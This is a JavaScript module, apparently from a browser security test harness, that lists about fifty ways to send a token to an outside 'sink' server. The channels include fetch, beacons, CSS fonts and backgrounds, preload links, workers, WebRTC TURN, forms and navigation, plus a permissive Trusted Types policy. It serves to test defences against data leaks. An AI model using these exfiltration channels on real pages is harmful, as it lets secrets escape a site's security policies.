/* Ways to send a word to another server. */
((hostile) => {
  const { settings, make, added, wait } = hostile;
  const { sink, word, turnServer } = settings;
  const https = sink.replace('http:', 'https:');
  const to = (name) => `${sink}/send?by=${encodeURIComponent(name)}&${word}`;
  const secure = (name) => to(name).replace(sink, https);
  const policy = (() => {
    try {
      return trustedTypes.createPolicy('hostile', { createScriptURL: (address) => address });
    } catch {
      return { createScriptURL: (address) => address };
    }
  })();
  const style = (rule) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(rule);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    added('p', { className: 'hostile', textContent: 'x' });
  };
  const link = (properties) => document.head.append(make('link', properties));

  hostile.ways.send = {
    fetch: (name) => fetch(to(name)),
    'fetch without CORS': (name) => fetch(to(name), { mode: 'no-cors', method: 'POST', body: word }),
    'fetch that is kept alive': (name) => fetch(to(name), { mode: 'no-cors', keepalive: true }),
    XMLHttpRequest: (name) => {
      const request = new XMLHttpRequest();
      request.open('GET', to(name));
      request.send();
    },
    beacon: (name) => navigator.sendBeacon(to(name), word),
    image: (name) => void (new Image().src = to(name)),
    'image of svg': (name) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', to(name));
      svg.append(image);
      document.body.append(svg);
    },
    'image button': (name) => void added('input', { type: 'image', src: to(name) }),
    'background of a style': (name) => style(`.hostile{background:url("${to(name)}")}`),
    'attribute of style': (name) => void (added('p', {}).style.background = `url("${to(name)}")`),
    'font of a style': (name) => style(`@font-face{font-family:h;src:url("${to(name)}")}.hostile{font-family:h}`),
    'font by script': (name) => new FontFace('h', `url("${to(name)}")`).load(),
    'import of a style': (name) => void added('style', { textContent: `@import "${to(name)}";` }),
    'style sheet': (name) => link({ rel: 'stylesheet', href: to(name) }),
    script: (name) => void added('script', { src: policy.createScriptURL(to(name)) }),
    module: (name) => import(to(name)),
    'preload link': (name) => link({ rel: 'preload', as: 'image', href: to(name) }),
    'module preload link': (name) => link({ rel: 'modulepreload', href: to(name) }),
    'prefetch link': (name) => link({ rel: 'prefetch', href: to(name) }),
    'prerender link': (name) => link({ rel: 'prerender', href: to(name) }),
    'icon link': (name) => link({ rel: 'icon', href: to(name) }),
    'manifest link': (name) => link({ rel: 'manifest', href: to(name) }),
    frame: (name) => void added('iframe', { src: to(name) }),
    object: (name) => void added('object', { data: to(name) }),
    embed: (name) => void added('embed', { src: to(name) }),
    video: (name) => void added('video', { src: to(name), autoplay: true, poster: to(name) }),
    track: (name) => {
      const video = added('video', { crossOrigin: 'anonymous' });
      video.append(make('track', { src: to(name), default: true, kind: 'captions' }));
    },
    'form of GET': (name) => {
      const form = added('form', { action: `${sink}/send` });
      for (const [key, value] of [
        ['by', name],
        ['word', word],
      ])
        form.append(make('input', { name: key, value }));
      form.submit();
    },
    'form of POST in a window': (name) => {
      const form = added('form', { action: to(name), method: 'post', target: '_blank' });
      form.append(make('input', { name: 'word', value: word }));
      form.submit();
    },
    ping: (name) => {
      const anchor = added('a', { href: '#sent', textContent: 'x' });
      anchor.ping = to(name);
      anchor.click();
    },
    WebSocket: (name) => void new WebSocket(to(name).replace('http', 'ws')),
    EventSource: (name) => void new EventSource(to(name)),
    WebTransport: (name) => new WebTransport(secure(name)).ready,
    worker: (name) => void new Worker(policy.createScriptURL(to(name))),
    'shared worker': (name) => void new SharedWorker(policy.createScriptURL(to(name))),
    'service worker': (name) => navigator.serviceWorker.register(policy.createScriptURL(to(name))),
    'payment method': (name) =>
      new PaymentRequest([{ supportedMethods: secure(name) }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).canMakePayment(),
    'identity provider': (name) =>
      navigator.credentials.get({ identity: { providers: [{ configURL: secure(name), clientId: word }] } }),
    'speculation rules': (name) =>
      void added('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to(name)] }] }),
      }),
    'source of attribution': (name) => {
      const image = make('img', { src: '/favicon.ico' });
      image.setAttribute('attributionsrc', secure(name));
      document.body.append(image);
    },
    'media session': (name) => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: word, artwork: [{ src: to(name) }] });
    },
    notification: (name) => void new Notification(word, { icon: to(name) }),
    'background fetch': async (name) =>
      (await navigator.serviceWorker.ready).backgroundFetch.fetch(word, [to(name)], { title: word }),
    'connection of WebRTC': async (name) => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${turnServer}?transport=udp`, username: word, credential: name }],
      });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
      await wait(1_000);
    },
    'window.open': (name) => void window.open(to(name)),
    'click on a link': (name) => added('a', { href: to(name), textContent: 'x' }).click(),
    'click on a link to a new window': (name) =>
      added('a', { href: to(name), target: '_blank', textContent: 'x' }).click(),
    'refresh by meta': (name) => {
      document.head.append(make('meta', { httpEquiv: 'refresh', content: `0;url=${to(name)}` }));
    },
    location: (name) => void (location.href = to(name)),
  };
})(window.hostile);
